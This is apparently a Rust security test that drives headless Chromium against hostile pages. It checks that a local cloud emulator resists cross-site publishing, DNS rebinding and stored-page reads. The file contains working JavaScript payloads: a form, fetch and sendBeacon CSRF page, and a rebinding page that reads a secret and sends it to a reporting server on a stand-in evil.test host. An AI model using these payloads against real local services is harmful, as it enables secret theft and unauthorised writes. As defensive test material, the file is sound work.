//! A real browser on hostile pages: what they can make it send to the local cloud, and read.
//!
//! Each attack is tried on two targets. One is a plain server without any check, where it works;
//! so the test would notice a browser that blocks the attack by itself. The other is the local
//! cloud, which must have refused it.

#![expect(clippy::unwrap_used, reason = "helpers of a test fail as the test does")]
#![expect(clippy::print_stdout, reason = "prints why the test is skipped")]

use std::net::{Ipv4Addr, SocketAddr};
use std::process::Stdio;
use std::sync::{Arc, Mutex};
use std::time::Duration;

use axum::Router;
use axum::http::header::CONNECTION;
use axum::response::Html;
use axum::routing::{any, get, post};
use serde_json::{Value, json};
use tempfile::TempDir;
use tokio::io::copy_bidirectional;
use tokio::net::{TcpListener, TcpStream};
use tokio::process::{Child, Command};
use tokio::sync::mpsc;

use super::clients::local_cloud;

/// Generous for a browser on a machine that is running other tests.
const REPORT_LIMIT: Duration = Duration::from_secs(90);

/// Where the host names of the hostile pages lead. `rebind.test` has an address of its own, so that
/// a relay there can have the port of the target.
const NAMES: &str = "MAP evil.test 127.0.0.1, MAP rebind.test 127.0.0.2";
const REBOUND: Ipv4Addr = Ipv4Addr::new(127, 0, 0, 2);

const PUBLISH: &str = "/v1/projects/local-project/topics/requests:publish";
const SECRET: &str = "/v1/projects/local-project/secrets/canary/versions/latest:access";

/// `CANARY` in base64, as the API returns the value of a secret.
const CANARY: &str = "Q0FOQVJZ";

/// Three ways to send a body to another origin without asking it first.
const CROSS_SITE: &str = r#"<!doctype html><body>
<iframe name="sink"></iframe>
<form method="post" enctype="text/plain" target="sink" action="TARGET">
<input name='{"messages": [{"data": "Zm9ybQ==", "attributes": {"from": "' value='form"}}]}'></form>
<script>
(async () => {
  const body = JSON.stringify({messages: [{data: "ZmV0Y2g="}]});
  let said = "fetch: ";
  try {
    const answer = await fetch("TARGET", {method: "POST", mode: "no-cors", body,
                                          headers: {"content-type": "text/plain"}});
    said += answer.type;
  } catch (error) { said += error; }
  said += ", beacon: " + navigator.sendBeacon("TARGET", body);
  const submitted = new Promise(done => document.querySelector("iframe").onload = done);
  document.forms[0].submit();
  await submitted;
  // Without a preflight, this one may not be sent at all.
  try { await fetch("TARGET", {method: "POST", body, headers: {"content-type": "application/json"}});
        said += ", json: sent"; }
  catch (error) { said += ", json: blocked"; }
  await fetch("/report", {method: "POST", body: said});
})();
</script>"#;

/// Reads from its own origin, whose name now leads to the target.
const REBINDING: &str = r#"<!doctype html><script>
(async () => {
  let said;
  try {
    const answer = await fetch("SECRET");
    said = answer.status + " " + await answer.text();
  } catch (error) { said = "failed: " + error; }
  await fetch("REPORT", {method: "POST", mode: "no-cors", body: said});
})();
</script>"#;

/// A running browser in a directory of its own, killed on drop.
struct Browser {
    _process: Child,
    _dir: TempDir,
}

impl Browser {
    /// Opens a page. Prints the reason and returns `None` if there is no browser.
    fn open(url: &str) -> Option<Self> {
        let dir = tempfile::tempdir().unwrap();
        let mut command = Command::new("chromium");
        command
            .args(["--headless", "--no-sandbox", "--disable-gpu", "--no-first-run"])
            .args(["--disable-background-networking", "--disable-component-update"])
            .args(["--disable-sync", "--disable-breakpad", "--no-proxy-server"])
            .arg("--disable-features=HttpsUpgrades,HttpsFirstBalancedModeAutoEnable")
            .arg(format!("--host-resolver-rules={NAMES}"))
            .arg(format!("--user-data-dir={}", dir.path().display()))
            .arg(url)
            .env("HOME", dir.path())
            .env_remove("XDG_CONFIG_HOME")
            .env_remove("XDG_CACHE_HOME");
        command.stdin(Stdio::null()).stdout(Stdio::null()).stderr(Stdio::null());
        match command.kill_on_drop(true).spawn() {
            Ok(process) => Some(Self { _process: process, _dir: dir }),
            Err(error) => {
                println!("skipped: no browser (Debian: apt-get install chromium): {error}");
                None
            }
        }
    }
}

/// A server without any check, and the bodies that it received.
async fn unguarded() -> (SocketAddr, Arc<Mutex<Vec<String>>>) {
    let received = Arc::new(Mutex::new(Vec::new()));
    let sink = Arc::clone(&received);
    let publish = post(move |body: String| async move { sink.lock().unwrap().push(body) });
    let router = Router::new().route(PUBLISH, publish).route(SECRET, get(async || CANARY));
    (serve(router).await, received)
}

/// A hostile site: a page, and where it reports to.
async fn site(page: String) -> (SocketAddr, mpsc::UnboundedReceiver<String>) {
    let (sender, reports) = mpsc::unbounded_channel();
    let report = any(move |body: String| async move { sender.send(body).unwrap() });
    // Closed, so that the browser connects again, and learns a new address, for the next request.
    let page = get(async move || ([(CONNECTION, "close")], Html(page)));
    (serve(Router::new().route("/", page).route("/report", report)).await, reports)
}

async fn serve(router: Router) -> SocketAddr {
    let listener = TcpListener::bind((Ipv4Addr::LOCALHOST, 0)).await.unwrap();
    let address = listener.local_addr().unwrap();
    tokio::spawn(async move { axum::serve(listener, router).await });
    address
}

async fn report(reports: &mut mpsc::UnboundedReceiver<String>) -> String {
    tokio::time::timeout(REPORT_LIMIT, reports.recv()).await.expect("the page reports").unwrap()
}

/// Opens a page of another site that publishes to the target; returns what the page saw. `None`: no
/// browser.
async fn cross_site_attack(target: SocketAddr) -> Option<String> {
    let page = CROSS_SITE.replace("TARGET", &format!("http://{target}{PUBLISH}"));
    let (site, mut reports) = site(page).await;
    let _browser = Browser::open(&format!("http://evil.test:{}/", site.port()))?;
    Some(report(&mut reports).await)
}

/// Opens a page whose name leads to the target afterwards, and that reads a secret there; returns
/// what it read. A relay stands in for the change of the name's address: it serves the page, and
/// then passes connections on. `None`: no browser.
async fn rebinding_attack(target: SocketAddr) -> Option<String> {
    let (reporting, mut reports) = site(String::new()).await;
    let report_url = format!("http://{reporting}/report");
    let page = REBINDING.replace("SECRET", SECRET).replace("REPORT", &report_url);
    let (page_site, _) = site(page).await;
    let relay = TcpListener::bind((REBOUND, target.port())).await.unwrap();
    tokio::spawn(async move {
        while let Ok((mut browser, _)) = relay.accept().await {
            tokio::spawn(async move {
                let mut start = [0; 6];
                let length = browser.peek(&mut start).await.unwrap_or_default();
                let is_page = start[..length] == *b"GET / ";
                let leads_to = if is_page { page_site } else { target };
                let mut onward = TcpStream::connect(leads_to).await.unwrap();
                // One connection each: its end is the browser's business.
                let _ = copy_bidirectional(&mut browser, &mut onward).await;
            });
        }
    });
    let _browser = Browser::open(&format!("http://rebind.test:{}/", target.port()))?;
    Some(report(&mut reports).await)
}

/// Opens a page that the target itself serves, and that reads something there; returns what it read.
/// `None`: no browser.
async fn stored_page_attack(
    target: SocketAddr,
    path: &str,
    stored: impl AsyncFnOnce(String),
) -> Option<String> {
    let (reporting, mut reports) = site(String::new()).await;
    let report_url = format!("http://{reporting}/report");
    stored(REBINDING.replace("SECRET", "/stored/secret").replace("REPORT", &report_url)).await;
    let _browser = Browser::open(&format!("http://{target}{path}"))?;
    Some(report(&mut reports).await)
}

/// Calls an API as a program does.
async fn call(method: &str, address: SocketAddr, path: &str, body: Value) -> Value {
    let request = reqwest::Client::builder().no_proxy().build().unwrap();
    let request = request.request(method.parse().unwrap(), format!("http://{address}{path}"));
    let response = request.json(&body).send().await.unwrap();
    assert!(response.status().is_success(), "{path}: {}", response.status());
    response.json().await.unwrap()
}

#[tokio::test]
async fn a_page_of_another_site_cannot_publish() {
    let (plain, received) = unguarded().await;
    let Some(said) = cross_site_attack(plain).await else { return };
    println!("a server without checks: {said}, {received:?}");
    let arrived = received.lock().unwrap().clone();
    assert!(said.starts_with("fetch: opaque, beacon: true"), "{said}");
    assert!(arrived.len() >= 3, "fetch, beacon and form arrive: {arrived:?}");

    let dir = tempfile::tempdir().unwrap();
    let cloud = local_cloud(dir.path()).await;
    let pubsub = cloud.endpoints().pubsub;
    let topic = "projects/local-project/topics/requests";
    let subscription = "/v1/projects/local-project/subscriptions/all";
    call("PUT", pubsub, &format!("/v1/{topic}"), json!({})).await;
    call("PUT", pubsub, subscription, json!({"topic": topic})).await;
    let said = cross_site_attack(pubsub).await.unwrap();
    println!("the local cloud: {said}");
    assert!(said.starts_with("fetch: opaque, beacon: true"), "the page sent the same: {said}");
    assert!(said.ends_with("json: blocked"), "{said}");

    // The program's own message is the first one there, so none of the page's arrived.
    let own = json!({"messages": [{"data": "b3du"}]});
    call("POST", pubsub, &format!("/v1/{topic}:publish"), own).await;
    let pull = json!({"maxMessages": 10, "returnImmediately": true});
    let pulled = call("POST", pubsub, &format!("{subscription}:pull"), pull).await;
    let messages = pulled["receivedMessages"].as_array().unwrap();
    let data: Vec<&Value> = messages.iter().map(|message| &message["message"]["data"]).collect();
    assert_eq!(data, ["b3du"], "{pulled}");
    cloud.stop().await;
}

#[tokio::test]
async fn a_rebinding_page_cannot_read() {
    let (plain, _) = unguarded().await;
    let Some(read) = rebinding_attack(plain).await else { return };
    println!("a server without checks: {read}");
    assert_eq!(read, format!("200 {CANARY}"));

    let dir = tempfile::tempdir().unwrap();
    let cloud = local_cloud(dir.path()).await;
    let secrets = cloud.endpoints().secrets;
    let path = "/v1/projects/local-project/secrets";
    let replication = json!({"replication": {"automatic": {}}});
    call("POST", secrets, &format!("{path}?secretId=canary"), replication).await;
    let value = json!({"payload": {"data": CANARY}});
    call("POST", secrets, &format!("{path}/canary:addVersion"), value).await;
    assert_eq!(call("GET", secrets, SECRET, json!({})).await["payload"]["data"], CANARY);
    let read = rebinding_attack(secrets).await.unwrap();
    println!("the local cloud: {read}");
    assert!(read.starts_with("421 the host `rebind.test` is not this machine"), "{read}");
    assert!(!read.contains(CANARY), "{read}");
    cloud.stop().await;
}

#[tokio::test]
async fn a_page_that_is_stored_in_a_bucket_cannot_read_the_buckets() {
    let listener = TcpListener::bind((Ipv4Addr::LOCALHOST, 0)).await.unwrap();
    let plain = listener.local_addr().unwrap();
    let serves = async |page| {
        let router = Router::new()
            .route("/page.html", get(async || Html::<String>(page)))
            .route("/stored/secret", get(async || CANARY));
        tokio::spawn(async move { axum::serve(listener, router).await });
    };
    let Some(said) = stored_page_attack(plain, "/page.html", serves).await else { return };
    assert!(said.contains(CANARY), "the attack works on a server without checks: {said}");

    let dir = tempfile::tempdir().unwrap();
    let cloud = local_cloud(dir.path()).await;
    let storage = cloud.endpoints().storage;
    let body = json!({ "name": "stored" });
    call("POST", storage, "/storage/v1/b?project=local-project", body).await;
    let upload = async |name: &str, kind: &str, content: String| {
        let url =
            format!("http://{storage}/upload/storage/v1/b/stored/o?uploadType=media&name={name}");
        let client = reqwest::Client::builder().no_proxy().build().unwrap();
        let request = client.post(url).header("content-type", kind).body(content);
        assert!(request.send().await.unwrap().status().is_success());
    };
    upload("secret", "text/plain", CANARY.to_owned()).await;
    let stores = async |page| upload("page.html", "text/html", page).await;
    let said = stored_page_attack(storage, "/stored/page.html", stores).await.unwrap();
    assert!(said.starts_with("failed: "), "{said}");
}
